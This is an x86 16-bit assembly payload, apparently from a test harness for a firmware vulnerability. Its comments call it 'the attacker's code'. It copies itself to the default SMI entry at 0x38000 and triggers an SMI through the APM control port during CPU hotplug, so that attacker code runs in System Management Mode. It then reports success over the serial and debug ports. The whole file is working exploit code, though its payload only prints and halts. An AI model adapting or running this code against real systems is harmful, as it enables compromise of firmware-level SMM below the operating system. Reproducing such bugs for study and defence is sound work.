/* SPDX-License-Identifier: GPL-2.0 */
/*
 * The attacker's code, copied by main.c to the default SMBASE's SMI entry
 * (0x38000) and to a SIPI page.  It runs in 16-bit mode, entered either by an
 * SMI of a CPU whose SMBASE is still 0x30000 (CS base 0x30000, IP 0x8000) or
 * by a SIPI (CS base = the page, IP 0), and must tell which happened: an SMI
 * entry has just written the save-state map at 0x3FE00-0x3FFFF, and with it
 * the SMM revision id at 0x3FEFC, over the pattern the guest left there.
 * The SIPI copy is also every real-mode interrupt vector (main.c): an
 * exception taken in SMM's real-mode environment lands here, in SMM.
 *
 * It announces itself on the serial port and on the debug console with the
 * token main.c patched in: "HPCI-ATTACK <token> smm=<0|1> apic=<id> stage=<s>"
 * (docs/facts.md §1).  No stack: SS:SP is whatever the entry left.  Data
 * are addressed through DS = the segment of this copy (patched per copy),
 * with offsets from the start of the payload, which the assembler resolves
 * without relocations.  No byte of it may be 0xFF: the closed window reads
 * all ones, and a read-back must not find any of the payload "stuck" there
 * (main.c refuses to load otherwise).
 */
#define OFF(sym) ((sym) - hpci_payload_start)
#define SAVE_SEG 0x3000            /* default SMBASE >> 4 */
#define SMM_REVID_OFF 0xfefc       /* SMBASE + 0x8000 + 0x7efc */
#define SMM_REVID 0x00020064       /* QEMU's x86-64 SMM revision id */
#define SAVE_PATTERN 0xa5a5a5a5
#define ENTRY_SEG 0x3800           /* the SMI entry, 0x38000 */
#define APM_CNT 0xb2
#define APM_CNT_CPU_HOTPLUG 0x04   /* what QEMU's CPU hotplug AML writes */

.macro PRINT port, buf
	mov $\port, %dx
	mov $OFF(\buf), %si
	cld
1:	lodsb
	test %al, %al
	jz 2f
	out %al, %dx
	jmp 1b
2:
.endm

/* The APIC ID in %bp as two hex digits at \at. */
.macro HEX_APIC at
	mov %bp, %ax
	shr $4, %al
	mov $OFF(hexdigits), %bx
	xlat
	mov %al, OFF(\at)
	mov %bp, %ax
	and $0x0f, %al
	xlat
	mov %al, OFF(\at) + 1
.endm

/*
 * One line for this CPU (APIC ID in %bp, stage letter in %cl).  Where: an
 * SMI entry wrote a valid revision id over the pattern.  Seen from SMM (or
 * SMRAM seen from outside it), bit 16 of %ebp is set and the line comes
 * from a buffer of its own without the lock, which a CPU pulled into SMM
 * while holding it would never release.  Otherwise CPUs started together
 * share this copy's buffer, under the lock.
 */
.macro ANNOUNCE
	mov $SAVE_SEG, %ax
	mov %ax, %es
	cmpl $SMM_REVID, %es:SMM_REVID_OFF
	jne 3f
	or $0x10000, %ebp
	mov %cl, OFF(msgs_stage)
	HEX_APIC msgs_apic
	PRINT 0x3f8, msgs
	PRINT 0x402, msgs
	jmp 5f
3:	lock btsw $0, OFF(print_lock)
	jnc 4f
	pause
	jmp 3b
4:	mov %cl, OFF(msg_stage)
	HEX_APIC msg_apic
	PRINT 0x3f8, msg
	PRINT 0x402, msg
	movw $0, OFF(print_lock)
5:
.endm

	.section .rodata.hpci_payload, "a"
	.code16
	.globl hpci_payload_start, hpci_payload_end, hpci_payload_dseg
	.globl hpci_payload_do_smi, hpci_payload_token, hpci_payload_token2, hpci_payload_ran
hpci_payload_start:
	cli
	.byte 0xb8                 /* mov $imm16, %ax */
hpci_payload_dseg:
	.word 0
	mov %ax, %ds

	/* Which CPU this is: its initial APIC ID, kept in %bp. */
	mov $1, %eax
	cpuid
	shr $24, %ebx
	movzwl %bx, %ebp
	movb $1, OFF(hpci_payload_ran)(%bx)
	movb $'e', %cl
	ANNOUNCE

	/* In SMM the attack has succeeded: stay there for the register dump. */
	test $0x10000, %ebp
	jnz park
	/* The SIPI variant goes on as the seed's attacker: plant this code
	 * at the SMI entry, then raise an SMI on every CPU, itself included. */
	cmpb $0, OFF(hpci_payload_do_smi)
	je park
	mov $ENTRY_SEG, %ax
	mov %ax, %es
	xor %si, %si
	mov $0, %di                /* not xor %di, %di: 31 ff */
	mov $OFF(hpci_payload_end), %cx
	cld
	rep movsb
	movw $ENTRY_SEG, %es:OFF(hpci_payload_dseg)
	movb $0, %es:OFF(hpci_payload_do_smi)
	movw $0, %es:OFF(print_lock)
	mov $APM_CNT_CPU_HOTPLUG, %al
	out %al, $APM_CNT
	/* Back from the SMI (RSM): say so, with the same check. */
	movb $'a', %cl
	ANNOUNCE
park:
	cli
	hlt
	jmp park

hexdigits:
	.ascii "0123456789abcdef"
hpci_payload_do_smi:
	.byte 0
	.balign 2
print_lock:
	.word 0
msg:
	.ascii "\nHPCI-ATTACK "
hpci_payload_token:
	.ascii "0000000000000000"
	.ascii " smm=0 apic="
msg_apic:
	.ascii "00 stage="
msg_stage:
	.ascii "e\n"
	.byte 0
msgs:
	.ascii "\nHPCI-ATTACK "
hpci_payload_token2:
	.ascii "0000000000000000"
	.ascii " smm=1 apic="
msgs_apic:
	.ascii "00 stage="
msgs_stage:
	.ascii "e\n"
	.byte 0
	.balign 16
/* One byte per APIC ID, set when that CPU entered this copy. */
hpci_payload_ran:
	.fill 256, 1, 0
hpci_payload_end:
